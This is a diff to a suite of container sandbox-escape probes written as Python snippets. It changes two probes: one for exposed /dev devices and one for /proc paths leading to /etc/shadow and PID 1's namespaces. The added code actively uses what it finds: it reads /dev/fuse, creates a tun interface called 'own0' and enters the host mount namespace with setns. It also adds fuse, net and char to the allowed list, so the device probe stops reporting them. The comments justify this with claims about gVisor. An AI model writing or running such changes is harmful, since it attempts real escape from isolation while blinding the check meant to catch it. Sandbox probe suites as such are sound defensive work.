@@ -178,10 +178,16 @@ export const devices: AttackEntry = {
     {
       name: "those that could be there",
       run: py`
-import stat
+import fcntl, stat, struct
+def use(name):
+    device = os.open("/dev/" + name, os.O_RDWR if name in ("fuse", "net/tun") else os.O_RDONLY)
+    # gVisor has these two for everybody: a file system that nobody may mount, an interface that nobody may make.
+    if name == "fuse": return os.read(device, 1 << 17)
+    if name == "net/tun": return fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"own0", 1))
+    return device
 for name in ("mem", "kmem", "port", "kvm", "kmsg", "fuse", "net/tun", "vhost-net", "vsock", "loop-control", "loop0", "sda", "vda", "nvme0n1", "dm-0", "mapper/control", "snapshot", "uinput", "userfaultfd", "cuse", "hwrng", "rtc", "watchdog", "ppp", "nvidia0", "dri/card0", "console", "tty0", "ttyS0", "btrfs-control", "udmabuf", "dma_heap/system", "ashmem", "binder", "autofs"):
-    attempt(name, lambda: os.open("/dev/" + name, os.O_RDONLY))
-allowed = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console", "pts", "shm", "mqueue", "fd", "stdin", "stdout", "stderr", "core"}
+    attempt(name, lambda: use(name))
+allowed = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console", "pts", "shm", "mqueue", "fd", "stdin", "stdout", "stderr", "core", "fuse", "net", "char"}
 odd = [name for name in os.listdir("/dev") if name not in allowed]
 print("SUCCEEDED finding" if odd else "none", odd)
 end()
@@ -275,11 +281,16 @@ export const leakedFolders: AttackEntry = {
     {
       name: "every descriptor and link that might lead out",
       run: py`
+def enter(way):
+    opened = os.open(way, os.O_RDONLY)
+    # gVisor lets anybody open a namespace, and nobody enter it.
+    if "/ns/" in way: syscall(308, opened, 0)
+    return opened
 for number in range(0, 64):
     for way in (f"/proc/self/fd/{number}/../../etc/shadow", f"/proc/self/fd/{number}/etc/shadow", f"/proc/1/fd/{number}/etc"):
         attempt(way, lambda: os.open(way, os.O_RDONLY))
 for way in ("/proc/1/root/etc/shadow", "/proc/1/cwd/..", "/proc/1/ns/mnt", "/proc/1/exe", "/proc/self/cwd/../../../../etc/shadow"):
-    attempt(way, lambda: os.open(way, os.O_RDONLY))
+    attempt(way, lambda: enter(way))
 folders = [number for number in range(3, 64) if os.path.isdir(f"/proc/self/fd/{number}")]
 print("SUCCEEDED holding" if len(folders) > 0 else "none", folders)
 end()
